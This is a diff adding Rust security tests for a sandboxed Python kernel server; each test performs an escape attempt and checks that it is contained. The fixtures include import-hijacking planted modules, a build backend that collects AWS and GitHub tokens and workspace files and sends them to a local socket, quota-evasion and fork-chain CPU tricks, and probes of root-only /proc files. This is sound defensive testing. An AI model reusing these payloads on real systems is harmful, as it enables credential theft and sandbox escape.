@@ -1,0 +1,698 @@
+//! The sandbox's seams (issue 21): what the kernel writes never runs outside the sandbox, the
+//! installer sees neither the user's secrets nor the workspace but does see the user's index
+//! configuration, the disk quota counts everything the kernel can write and holds, and the
+//! sandbox's curated views. Each test performs the attack from kernel code (or from a package's
+//! build code) and checks that nothing happened outside.
+
+use std::io::{BufRead, Read};
+use std::path::{Path, PathBuf};
+
+use serde_json::json;
+
+use crate::harness::{is_error, text, texts, Server};
+
+/// Variables that point installs at a particular index: taken out of the servers these tests
+/// start, so that only the configuration each test sets is in force.
+const INDEX_VARS: &[&str] = &[
+    "PIP_FIND_LINKS",
+    "PIP_NO_INDEX",
+    "PIP_INDEX_URL",
+    "PIP_EXTRA_INDEX_URL",
+    "PIP_CONFIG_FILE",
+    "UV_FIND_LINKS",
+    "UV_NO_INDEX",
+    "UV_INDEX_URL",
+    "UV_EXTRA_INDEX_URL",
+    "UV_CONFIG_FILE",
+    "XDG_CONFIG_HOME",
+];
+
+/// The secrets a build backend goes looking for, set on the server.
+const SECRETS: &[(&str, &str)] = &[
+    ("AWS_SECRET_ACCESS_KEY", "CANARY-AWS-SECRET"),
+    ("GITHUB_TOKEN", "CANARY-GITHUB-TOKEN"),
+    ("KERNEL_MCP_TOKEN", "CANARY-KMCP-TOKEN"),
+];
+
+fn tempdir(prefix: &str) -> tempfile::TempDir {
+    tempfile::Builder::new().prefix(prefix).tempdir().unwrap()
+}
+
+fn data_dir() -> String {
+    kernel_mcp::pyenv::data_dir()
+        .unwrap()
+        .to_string_lossy()
+        .into_owned()
+}
+
+/// What a planted file does when something imports or runs it: leave a mark in `out`, a folder
+/// on the host that the sandbox does not show, so only code running outside could write it.
+fn payload(out: &Path, name: &str) -> String {
+    format!(
+        "import os as _os\ntry:\n    open(_os.path.join({out:?}, {name:?}), 'w').write(str(_os.getpid()))\nexcept Exception:\n    pass\n",
+        out = out.display().to_string()
+    )
+}
+
+/// Files that shadow what host-side Python imports (the standard library, `site`'s hooks, the
+/// installer itself) written into the workspace from kernel code.
+fn plant_code(out: &Path) -> String {
+    let files = [
+        "json.py",
+        "re.py",
+        "typing.py",
+        "sitecustomize.py",
+        "usercustomize.py",
+        "importlib_metadata.py",
+        "pip/__init__.py",
+        "pip/__main__.py",
+        "venv/__init__.py",
+        "venv/__main__.py",
+        "matplotlib/__init__.py",
+    ];
+    let mut code = String::from("import os\n");
+    for f in files {
+        code.push_str(&format!(
+            "os.makedirs(os.path.dirname({f:?}) or '.', exist_ok=True)\nopen({f:?}, 'w').write({p:?})\n",
+            p = payload(out, f)
+        ));
+    }
+    code.push_str("print('planted')");
+    code
+}
+
+#[tokio::test]
+async fn files_the_kernel_writes_never_run_outside_the_sandbox() {
+    let out = tempdir("kmcp-seam-out-");
+    let data = data_dir();
+    // The server's working directory is the workspace, as with `kernel-mcp --workspace .`.
+    let s = Server::start_opts(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())], &[], true).await;
+    let r = s.exec(&plant_code(out.path())).await;
+    assert_eq!(text(&r).trim(), "planted", "{}", text(&r));
+    // Everything the server runs the kernel's interpreter for, outside the kernel.
+    let r = s.call("list_packages", json!({"filter": "numpy"})).await;
+    assert!(!is_error(&r) && text(&r).contains("numpy"), "{}", text(&r));
+    let r = s
+        .call(
+            "check_packages",
+            json!({"packages": ["numpy", "sklearn", "kmcp-not-a-package"]}),
+        )
+        .await;
+    assert!(!is_error(&r), "{}", text(&r));
+    assert!(text(&r).contains("scikit-learn"), "{}", text(&r));
+    // Already installed: the installer runs (sandboxed) and needs no index.
+    let r = s
+        .call("install_package", json!({"packages": ["numpy"]}))
+        .await;
+    assert!(!is_error(&r), "{}", text(&r));
+    let r = s.call("get_environment", json!({})).await;
+    assert!(!is_error(&r), "{}", text(&r));
+    let r = s.call("restart_kernel", json!({})).await;
+    assert!(!is_error(&r), "{}", text(&r));
+    let r = s.exec("1 + 1").await;
+    assert_eq!(text(&r), "2");
+    let marks: Vec<String> = std::fs::read_dir(out.path())
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(
+        marks.is_empty(),
+        "kernel-written files ran outside the sandbox: {marks:?}"
+    );
+    s.close().await;
+    // The same probes run by a new server whose working directory holds the planted files.
+    let s = Server::start_opts(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())], &[], true).await;
+    let r = s.exec(&plant_code(out.path())).await;
+    assert_eq!(text(&r).trim(), "planted");
+    let cwd = s.ws();
+    let setup = std::process::Command::new(env!("CARGO_BIN_EXE_kernel-mcp"))
+        .arg("setup")
+        .current_dir(&cwd)
+        .env("KERNEL_MCP_DATA_DIR", &data)
+        .stdin(std::process::Stdio::null())
+        .output()
+        .unwrap();
+    assert!(setup.status.success());
+    let marks: Vec<String> = std::fs::read_dir(out.path())
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(
+        marks.is_empty(),
+        "kernel-written files ran outside the sandbox: {marks:?}"
+    );
+    s.close().await;
+}
+
+/// A local package index on 127.0.0.1 serving the files of `dir`.
+struct Index {
+    child: std::process::Child,
+    url: String,
+}
+
+impl Index {
+    fn serve(dir: &Path) -> Index {
+        let mut child = std::process::Command::new("python3")
+            .args([
+                "-u",
+                "-m",
+                "http.server",
+                "--bind",
+                "127.0.0.1",
+                "0",
+                "--directory",
+            ])
+            .arg(dir)
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        std::io::BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        let port = line
+            .split(" port ")
+            .nth(1)
+            .and_then(|r| r.split_whitespace().next())
+            .unwrap_or_default()
+            .to_owned();
+        Index {
+            child,
+            url: format!("http://127.0.0.1:{port}/"),
+        }
+    }
+}
+
+impl Drop for Index {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A listener on 127.0.0.1 that keeps whatever is sent to it.
+struct Sink {
+    port: u16,
+    got: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
+}
+
+impl Sink {
+    fn start() -> Sink {
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = l.local_addr().unwrap().port();
+        let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let keep = got.clone();
+        std::thread::spawn(move || {
+            for c in l.incoming().flatten() {
+                let mut buf = Vec::new();
+                let _ = c
+                    .set_read_timeout(Some(std::time::Duration::from_secs(10)))
+                    .map(|_| (&c).take(1 << 20).read_to_end(&mut buf));
+                keep.lock().unwrap().extend(buf);
+            }
+        });
+        Sink { port, got }
+    }
+
+    fn received(&self) -> String {
+        String::from_utf8_lossy(&self.got.lock().unwrap()).into_owned()
+    }
+}
+
+/// A source-only package `name` 0.1 whose build backend collects what it can find of the
+/// server's secrets and the workspace, sends it to `sink_port`, and builds a wheel recording it.
+fn nosy_sdist(site: &Path, name: &str, workspace: &Path, sink_port: u16) {
+    let module = name.replace('-', "_");
+    let backend = format!(
+        r#"import os, zipfile, base64, hashlib, socket, json
+WS = {ws:?}
+NAMES = {names:?}
+
+def _look():
+    found = {{}}
+    for n in NAMES:
+        if n in os.environ:
+            found[n] = os.environ[n]
+    for k, v in os.environ.items():
+        if 'CANARY' in v:
+            found[k] = v
+    try:
+        found['workspace'] = sorted(os.listdir(WS))
+        found['secret'] = open(os.path.join(WS, 'secret.txt')).read()
+    except Exception as e:
+        found['workspace_error'] = type(e).__name__
+    return found
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    found = _look()
+    try:
+        s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
+        s.sendall(json.dumps(found).encode())
+        s.close()
+    except Exception:
+        pass
+    name = '{module}-0.1-py3-none-any.whl'
+    files = {{
+        '{module}/__init__.py': 'VALUE = 42\nFOUND = %r\n' % (found,),
+        '{module}-0.1.dist-info/METADATA': 'Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n',
+        '{module}-0.1.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: nosy\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
+    }}
+    record = []
+    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as z:
+        for path, text in files.items():
+            data = text.encode()
+            z.writestr(path, data)
+            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
+            record.append('%s,sha256=%s,%d' % (path, digest, len(data)))
+        record.append('{module}-0.1.dist-info/RECORD,,')
+        z.writestr('{module}-0.1.dist-info/RECORD', '\n'.join(record) + '\n')
+    return name
+"#,
+        ws = workspace.display().to_string(),
+        names = SECRETS.iter().map(|(k, _)| *k).collect::<Vec<_>>(),
+        port = sink_port,
+    );
+    let src = tempdir("kmcp-nosy-src-");
+    let root = src.path().join(format!("{module}-0.1"));
+    std::fs::create_dir_all(&root).unwrap();
+    std::fs::write(root.join("nosy_backend.py"), backend).unwrap();
+    std::fs::write(
+        root.join("pyproject.toml"),
+        format!("[build-system]\nrequires = []\nbuild-backend = \"nosy_backend\"\nbackend-path = [\".\"]\n\n[project]\nname = \"{name}\"\nversion = \"0.1\"\n"),
+    )
+    .unwrap();
+    std::fs::write(
+        root.join("PKG-INFO"),
+        format!("Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n"),
+    )
+    .unwrap();
+    let pack = "import sys, tarfile\nwith tarfile.open(sys.argv[1], 'w:gz') as t:\n    t.add(sys.argv[2], arcname=sys.argv[3])";
+    let st = std::process::Command::new("python3")
+        .args(["-c", pack])
+        .arg(site.join(format!("{module}-0.1.tar.gz")))
+        .arg(&root)
+        .arg(format!("{module}-0.1"))
+        .status()
+        .unwrap();
+    assert!(st.success());
+}
+
+fn uninstall(dist: &str) {
+    let py = kernel_mcp::pyenv::data_dir()
+        .unwrap()
+        .join("env/bin/python");
+    let _ = std::process::Command::new(py)
+        .args(["-m", "pip", "uninstall", "-y", "-q", dist])
+        .status();
+}
+
+/// Installs `name` (served by a local index that only the given pip configuration names) with
+/// secrets in the server's environment and in the workspace; checks that the build saw and sent
+/// none of them.
+async fn install_with_config(
+    name: &str,
+    home: &Path,
+    env: &[(&str, &str)],
+    site: &Path,
+    sink: &Sink,
+) {
+    let data = data_dir();
+    let home_s = home.to_string_lossy().into_owned();
+    let mut all: Vec<(&str, &str)> = vec![
+        ("HOME", home_s.as_str()),
+        ("KERNEL_MCP_DATA_DIR", data.as_str()),
+    ];
+    all.extend(SECRETS.iter().copied());
+    all.extend(env.iter().copied());
+    let s = Server::start_opts(&[], &all, INDEX_VARS, true).await;
+    std::fs::write(s.ws().join("secret.txt"), "CANARY-WORKSPACE-FILE").unwrap();
+    nosy_sdist(site, name, &s.ws(), sink.port);
+    let r = s.call("install_package", json!({"packages": [name]})).await;
+    assert!(!is_error(&r), "{}", text(&r));
+    let module = name.replace('-', "_");
+    let r = s
+        .exec(&format!(
+            "import {module}\nprint({module}.VALUE, sorted({module}.FOUND))"
+        ))
+        .await;
+    let t = text(&r);
+    assert!(t.starts_with("42 "), "{t}");
+    assert!(!t.contains("CANARY"), "the build saw a secret: {t}");
+    assert!(
+        !t.contains("'secret'") && !t.contains("'workspace'"),
+        "the build saw the workspace: {t}"
+    );
+    s.close().await;
+    uninstall(name);
+}
+
+#[tokio::test]
+async fn the_installer_sees_the_users_index_configuration_and_no_secrets() {
+    let site = tempdir("kmcp-index-");
+    let index = Index::serve(site.path());
+    let sink = Sink::start();
+    // 1. The index is named only in the user's pip configuration under the server's HOME.
+    let home = tempdir("kmcp-home-");
+    let conf = home.path().join(".config/pip/pip.conf");
+    std::fs::create_dir_all(conf.parent().unwrap()).unwrap();
+    std::fs::write(
+        &conf,
+        format!("[global]\nno-index = true\nfind-links = {}\n", index.url),
+    )
+    .unwrap();
+    install_with_config("kmcp-nosy-user", home.path(), &[], site.path(), &sink).await;
+    // 2. The index is named only in a file given by PIP_CONFIG_FILE (and HOME has none).
+    let home2 = tempdir("kmcp-home-");
+    let file = site.path().join("corp-pip.conf");
+    std::fs::write(
+        &file,
+        format!("[install]\nno-index = yes\nfind-links = {}\n", index.url),
+    )
+    .unwrap();
+    let file_s = file.to_string_lossy().into_owned();
+    install_with_config(
+        "kmcp-nosy-env",
+        home2.path(),
+        &[("PIP_CONFIG_FILE", file_s.as_str())],
+        site.path(),
+        &sink,
+    )
+    .await;
+    // The builds had the network (installers need it) but nothing secret to send.
+    let got = sink.received();
+    assert!(
+        got.contains("workspace_error"),
+        "the build code never reached the listener: {got:?}"
+    );
+    assert!(!got.contains("CANARY"), "secrets left the machine: {got}");
+}
+
+#[tokio::test]
+async fn an_unreachable_index_is_reported_as_what_it_is() {
+    let data = data_dir();
+    let home = tempdir("kmcp-home-");
+    // Nothing listens on this port: the installer's connection is refused.
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let url = format!("http://127.0.0.1:{port}/simple");
+    let home_s = home.path().to_string_lossy().into_owned();
+    let s = Server::start_opts(
+        &[],
+        &[
+            ("HOME", home_s.as_str()),
+            ("KERNEL_MCP_DATA_DIR", data.as_str()),
+            ("PIP_INDEX_URL", url.as_str()),
+            ("PIP_RETRIES", "1"),
+            ("PIP_TIMEOUT", "5"),
+        ],
+        INDEX_VARS,
+        false,
+    )
+    .await;
+    let r = s
+        .call("install_package", json!({"packages": ["kmcp-unreachable"]}))
+        .await;
+    assert!(is_error(&r));
+    let t = text(&r);
+    assert!(
+        t.contains("could not reach the package index")
+            && !t.contains("not found on the package index"),
+        "{t}"
+    );
+    s.close().await;
+}
+
+/// Bytes below `dir` (files only).
+fn bytes_under(dir: &Path) -> u64 {
+    let mut total = 0;
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let Ok(m) = std::fs::symlink_metadata(e.path()) else {
+                continue;
+            };
+            if m.is_dir() {
+                stack.push(e.path());
+            } else {
+                total += m.len();
+            }
+        }
+    }
+    total
+}
+
+/// A cell that writes 1 MiB chunks, 8 to a file (so no single file meets the file-size limit:
+/// only the quota's count can stop it), into the files `new_file` (a Python expression of `i`
+/// giving an open file) makes, until a write fails or `limit_mb` are written; the files stay
+/// open. Prints how many MiB it wrote.
+fn writer(setup: &str, new_file: &str, limit_mb: u32) -> String {
+    format!(
+        "import os, resource\n{setup}\nchunk = b'x' * (1 << 20)\nn = 0\nkeep = []\ntry:\n    for i in range(10000):\n        if n >= {limit_mb}:\n            break\n        f = {new_file}\n        keep.append(f)\n        for _ in range(8):\n            f.write(chunk)\n            f.flush()\n            n += 1\nexcept OSError as e:\n    pass\nprint('wrote', n)"
+    )
+}
+
+fn wrote(r: &rmcp::model::CallToolResult) -> u64 {
+    texts(r)
+        .iter()
+        .flat_map(|t| t.lines())
+        .find_map(|l| l.trim().strip_prefix("wrote ").map(|n| n.trim().to_owned()))
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("no count in {:?}", texts(r)))
+}
+
+#[tokio::test]
+async fn the_disk_quota_counts_every_place_and_cannot_be_lifted() {
+    let data = data_dir();
+    let s = Server::start_with_env(
+        &["--disk-quota", "48M"],
+        &[("KERNEL_MCP_DATA_DIR", data.as_str())],
+    )
+    .await;
+    // Slack: the watch looks every 10-50 ms, and the page cache takes GB/s (4.6 GB/s measured
+    // here), so a fast writer overshoots by what it writes before the next look. Each bypass
+    // below was unbounded before (1.1 GB against a 300 MB quota); the writers try 1000 MiB.
+    let cap_mb = 48 + 256;
+    // 1. Blocked, then the kernel raises its own soft limit back and writes on.
+    let r = s
+        .exec_for(
+            &format!(
+                "{}\nsoft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)\ntry:\n    resource.setrlimit(resource.RLIMIT_FSIZE, (hard, hard))\nexcept Exception as e:\n    print('raise refused', e)\nm = 0\ntry:\n    for j in range(100):\n        with open(f'after{{j}}.bin', 'wb') as g:\n            for _ in range(4):\n                g.write(chunk)\n                g.flush()\n                m += 1\nexcept OSError:\n    pass\nprint('then', m)",
+                writer("", "open(f'first{i}.bin', 'wb')", 1000)
+            ),
+            120.0,
+        )
+        .await;
+    let total = bytes_under(&s.ws());
+    eprintln!(
+        "disk quota 48 MiB, limit lifted by the kernel: {total} bytes in all; {:?}",
+        texts(&r)
+    );
+    assert!(total <= cap_mb << 20, "{total} bytes: {:?}", texts(&r));
+    assert!(wrote(&r) < 1000, "{:?}", texts(&r));
+    // Writes stay stopped for this kernel (it lifted the block once); a restart starts over.
+    let r = s.call("restart_kernel", json!({})).await;
+    assert!(!is_error(&r), "{}", text(&r));
+    for e in std::fs::read_dir(s.ws()).unwrap().flatten() {
+        let _ = std::fs::remove_file(e.path());
+    }
+    // 2. The runtime folder (and the private /tmp, HOME, /dev/shm) count too.
+    for (what, setup, open_expr) in [
+        (
+            "runtime dir",
+            "from ipykernel import get_connection_file\nd = os.path.dirname(get_connection_file())",
+            "open(os.path.join(d, f'big{i}.bin'), 'wb')",
+        ),
+        ("/tmp", "", "open(f'/tmp/big{i}.bin', 'wb')"),
+        ("/dev/shm", "", "open(f'/dev/shm/big{i}.bin', 'wb')"),
+        (
+            "HOME",
+            "",
+            "open(os.path.expanduser(f'~/big{i}.bin'), 'wb')",
+        ),
+        // 3. A folder the quota's walk cannot read.
+        (
+            "mode 0300 folder",
+            "os.mkdir('hidden', 0o700)\nos.chmod('hidden', 0o300)",
+            "open(f'hidden/part{i}.bin', 'wb')",
+        ),
+        // 4. Files deleted while open.
+        (
+            "deleted open files",
+            "",
+            "(lambda f: (os.unlink(f.name), f)[1])(open(f'ghost{i}.bin', 'wb'))",
+        ),
+    ] {
+        let r = s.exec_for(&writer(setup, open_expr, 1000), 120.0).await;
+        let n = wrote(&r);
+        eprintln!("disk quota 48 MiB, {what}: stopped after {n} MiB");
+        assert!(
+            n < 1000 && n <= cap_mb,
+            "{what}: wrote {n} MiB against a 48 MiB quota: {:?}\n{}",
+            texts(&r),
+            s.log()
+                .lines()
+                .filter(|l| l.contains("quota"))
+                .collect::<Vec<_>>()
+                .join("\n")
+        );
+        let r = s.call("restart_kernel", json!({})).await;
+        assert!(!is_error(&r), "{}", text(&r));
+        let hidden = s.ws().join("hidden");
+        if hidden.exists() {
+            use std::os::unix::fs::PermissionsExt;
+            let _ = std::fs::set_permissions(&hidden, std::fs::Permissions::from_mode(0o700));
+            let _ = std::fs::remove_dir_all(&hidden);
+        }
+    }
+    s.close().await;
+}
+
+#[tokio::test]
+async fn vsock_and_other_address_families_are_denied() {
+    let data = data_dir();
+    for args in [&[][..], &["--allow-network"][..]] {
+        let s = Server::start_with_env(args, &[("KERNEL_MCP_DATA_DIR", data.as_str())]).await;
+        let r = s
+            .exec("import socket\nout = []\nfor fam in ('AF_VSOCK', 'AF_BLUETOOTH', 'AF_ALG', 'AF_PACKET', 'AF_CAN', 'AF_TIPC', 'AF_RDS'):\n    f = getattr(socket, fam, None)\n    if f is None:\n        continue\n    try:\n        socket.socket(f, socket.SOCK_SEQPACKET if fam == 'AF_ALG' else socket.SOCK_STREAM if fam == 'AF_VSOCK' else socket.SOCK_RAW).close()\n        out.append(fam + ' open')\n    except OSError as e:\n        out.append(fam + ' ' + str(e.errno))\nprint(out)\nsocket.socket(socket.AF_UNIX).close(); socket.socket(socket.AF_INET).close(); print('ok')")
+            .await;
+        let t = text(&r);
+        assert!(t.contains("AF_VSOCK 1"), "{args:?}: {t}");
+        assert!(!t.contains(" open"), "{args:?}: {t}");
+        assert!(t.contains("ok"), "{args:?}: {t}");
+        s.close().await;
+    }
+}
+
+#[tokio::test]
+async fn the_private_tmp_works_and_root_only_files_stay_hidden() {
+    let data = data_dir();
+    let s = Server::start_with_env(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())]).await;
+    // Ordinary work: /tmp is the kernel's own, `ls /` lists the sandbox's root.
+    let r = s
+        .exec("import os, subprocess\nopen('/tmp/x', 'w').write('tmp ok')\nimport matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('/tmp/fig.png')\nprint(open('/tmp/x').read(), os.path.getsize('/tmp/fig.png') > 0)\nprint(subprocess.run('echo hi > /tmp/y && cat /tmp/y && ls / | grep -c usr', shell=True, capture_output=True, text=True).stdout)")
+        .await;
+    let t = text(&r);
+    assert!(t.starts_with("tmp ok True\nhi\n1"), "{t}");
+    // What host root's uid could read is not shown: private keys, most of /sys, host keyrings.
+    let r = s
+        .exec("import os\ndef peek(p):\n    try:\n        with open(p, 'rb') as f:\n            return len(f.read(4096))\n    except OSError as e:\n        return e.errno\nprint({p: peek(p) for p in ['/proc/keys', '/proc/slabinfo', '/proc/kallsyms', '/proc/key-users']})\nprint(sorted(os.listdir('/etc/ssl')))\nprint(os.path.exists('/sys/class'), os.path.exists('/sys/devices/system/cpu/online'), os.cpu_count() > 0)")
+        .await;
+    let t = text(&r);
+    let lines: Vec<&str> = t.lines().collect();
+    // Each masked file reads as empty (or is refused, or is not there).
+    for f in [
+        "'/proc/keys': 0",
+        "'/proc/slabinfo': 0",
+        "'/proc/key-users': 0",
+    ] {
+        assert!(
+            lines.first().is_some_and(|l| l.contains(f)
+                || l.contains(&f.replace(": 0", ": 13"))
+                || l.contains(&f.replace(": 0", ": 2"))),
+            "{f}: {t}"
+        );
+    }
+    assert!(lines.get(1).is_some_and(|l| !l.contains("private")), "{t}");
+    assert_eq!(lines.get(2).copied(), Some("False True True"), "{t}");
+    s.close().await;
+}
+
+#[tokio::test]
+async fn a_refused_local_connection_says_the_network_is_off() {
+    let data = data_dir();
+    // A service on the host's loopback: the sandboxed kernel's localhost is not this one.
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let s = Server::start_with_env(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())]).await;
+    let r = s
+        .exec(&format!(
+            "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5)"
+        ))
+        .await;
+    assert!(is_error(&r));
+    let t = texts(&r);
+    assert!(
+        t.iter().any(|x| x.contains("ConnectionRefusedError")),
+        "{t:?}"
+    );
+    assert!(
+        t.iter()
+            .any(|x| x.starts_with("[sandbox: the network is off")
+                && x.contains("--allow-network")
+                && x.contains("localhost")),
+        "{t:?}"
+    );
+    drop(l);
+    s.close().await;
+}
+
+#[tokio::test]
+async fn detached_cpu_is_one_budget_for_a_chain_of_forks() {
+    let data = data_dir();
+    let s = Server::start_with_env(
+        &["--detached-cpu-limit", "3"],
+        &[("KERNEL_MCP_DATA_DIR", data.as_str())],
+    )
+    .await;
+    // A daemon that burns CPU in short-lived generations: each forks its successor and exits,
+    // so no single process runs long. Each generation records the CPU it used.
+    let out = PathBuf::from("chain");
+    let code = format!(
+        r#"import os, time, sys
+os.makedirs({out:?}, exist_ok=True)
+pid = os.fork()
+if pid == 0:
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    gen = 0
+    while gen < 200:
+        end = time.process_time() + 0.6
+        while time.process_time() < end:
+            pass
+        with open(os.path.join({out:?}, 'g%03d' % gen), 'w') as f:
+            f.write(str(time.process_time()))
+        gen += 1
+        if os.fork():
+            os._exit(0)
+    os._exit(0)
+os.waitpid(pid, 0)
+print('started')"#,
+        out = out.display().to_string()
+    );
+    let r = s.exec(&code).await;
+    assert!(text(&r).contains("started"), "{}", text(&r));
+    let chain = s.ws().join("chain");
+    // The chain ends when its budget is spent: its generation count stops growing.
+    let count = || std::fs::read_dir(&chain).map(|d| d.count()).unwrap_or(0);
+    let mut last = (count(), std::time::Instant::now());
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(90);
+    while std::time::Instant::now() < deadline {
+        let c = count();
+        if c != last.0 {
+            last = (c, std::time::Instant::now());
+        } else if last.1.elapsed() > std::time::Duration::from_secs(5) {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    }
+    let gens = count();
+    eprintln!("detached chain: {gens} generations");
+    // 0.6 CPU-seconds a generation: a 3 s budget (plus the watch's polling slack) allows a
+    // handful, never the 200 a per-process limit would.
+    assert!(gens > 0, "the chain never ran");
+    assert!(
+        gens <= 12,
+        "{gens} generations of 0.6 CPU-s against a 3 s budget"
+    );
+    s.close().await;
+}
